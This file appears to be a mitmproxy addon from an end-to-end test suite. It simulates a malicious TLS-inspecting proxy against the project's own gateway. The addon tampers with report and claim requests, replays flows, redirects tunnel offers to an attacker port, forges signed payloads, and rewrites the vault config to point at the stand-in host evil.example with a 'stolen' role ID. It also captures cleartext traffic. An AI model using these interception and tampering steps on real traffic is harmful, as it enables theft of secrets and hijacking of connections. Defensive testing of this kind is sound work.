"""mitmproxy addon: the attacks of a TLS-inspecting proxy, one at a time (tests/e2e/test_inspecting_proxy.py).

Runs inside mitmdump (its own virtual environment, see ``make mitm-deps``), not
in the test process. The test writes ``attack.json`` in ``VERSUS_MITM_DIR``
to arm one attack; the addon applies it once, disarms itself, and appends what
the gateway answered to the altered or replayed request to ``results.jsonl``.
The control socket is refused (as by proxies that break WebSockets), so the
collector speaks per-call HTTPS, where each request is a flow to attack.
"""

from __future__ import annotations

import base64
import contextlib
import json
import os
from pathlib import Path
from typing import Any

from mitmproxy import ctx, http  # type: ignore[import-not-found]  # in .venv-mitm only

ROOT = Path(os.environ["VERSUS_MITM_DIR"])


def _armed() -> str:
    try:
        return str(json.loads((ROOT / "attack.json").read_text()).get("attack", "none"))
    except (OSError, ValueError):
        return "none"


def _disarm() -> None:
    (ROOT / "attack.json").write_text(json.dumps({"attack": "none"}))


def _record(kind: str, flow: http.HTTPFlow, **extra: Any) -> None:
    code = ""
    with contextlib.suppress(ValueError, KeyError, TypeError):
        code = json.loads(flow.response.content or b"{}")["error"]["code"]
    entry = {
        "kind": kind,
        "path": flow.request.path,
        "status": flow.response.status_code,
        "code": code,
        **extra,
    }
    with open(ROOT / "results.jsonl", "a") as fh:
        fh.write(json.dumps(entry) + "\n")


def _b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def _unb64(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


class Attacks:
    def request(self, flow: http.HTTPFlow) -> None:
        path = flow.request.path
        if path.endswith("/control"):
            flow.response = http.Response.make(502, b"this proxy does not carry WebSockets")
            return
        if flow.is_replay:
            return
        attack = _armed()
        if attack == "change_report_outcome" and path.endswith("/report"):
            body = json.loads(flow.request.content or b"{}")
            body["outcome"] = "failed" if body.get("outcome") == "success" else "success"
            body["error_code"] = ""
            flow.request.content = json.dumps(body).encode()
        elif attack == "swap_claim_body" and path.endswith("/claim"):
            body = json.loads(flow.request.content or b"{}")
            body["held_task_ids"] = []
            body["claim_seq"] = 0
            body["wait_s"] = 0
            flow.request.content = json.dumps(body).encode()
        else:
            return
        _disarm()
        flow.metadata["attacked"] = attack

    def response(self, flow: http.HTTPFlow) -> None:
        # Everything the proxy sees in the clear, for tests that look for secrets in it.
        assert flow.response is not None
        with open(ROOT / "capture.bin", "ab") as fh:
            fh.write(flow.request.path.encode() + b"\n" + (flow.request.content or b"") + b"\n")
            fh.write(flow.response.content or b"")
            fh.write(b"\n")
        path = flow.request.path
        if flow.is_replay == "request":
            _record("replayed", flow)
            return
        if "attacked" in flow.metadata:
            _record(flow.metadata["attacked"], flow)
            return
        attack = _armed()
        assert flow.response is not None
        replayable = {"replay_claim": "/claim", "replay_report": "/report"}
        if attack in replayable and path.endswith(replayable[attack]) and flow.response.status_code == 200:
            _disarm()
            ctx.master.commands.call("replay.client", [flow.copy()])
        elif (
            attack in ("rewrite_offer", "forge_offer")
            and path.endswith("/claim")
            and b'"offers":[{' in (flow.response.content or b"")
        ):
            # Point the tunnel at another device: in the readable copy only, or inside the signed payload.
            body = json.loads(flow.response.content or b"{}")
            port = int(json.loads((ROOT / "evil_port").read_text()))
            for offer in body["offers"]:
                offer["port"] = port
                if attack == "forge_offer":
                    payload = json.loads(_unb64(offer["signed"]["payload"]))
                    payload["port"] = port
                    offer["signed"]["payload"] = _b64(json.dumps(payload).encode())
            flow.response.content = json.dumps(body).encode()
            _disarm()
            _record(attack, flow, delivered=True)
        elif (
            attack == "change_config"
            and path.endswith("/claim")
            and b'"config"' in (flow.response.content or b"")
        ):
            body = json.loads(flow.response.content or b"{}")
            payload = json.loads(_unb64(body["config"]["payload"]))
            payload["vault_mode"] = "external"
            payload["vault"] = {"integration_id": "vi_evil", "address": "https://evil.example:8200",
                                "role_id": "stolen", "kv_mount": "secret"}  # fmt: skip
            body["config"]["payload"] = _b64(json.dumps(payload).encode())
            flow.response.content = json.dumps(body).encode()
            _disarm()
            _record("change_config", flow, delivered=True)


addons = [Attacks()]
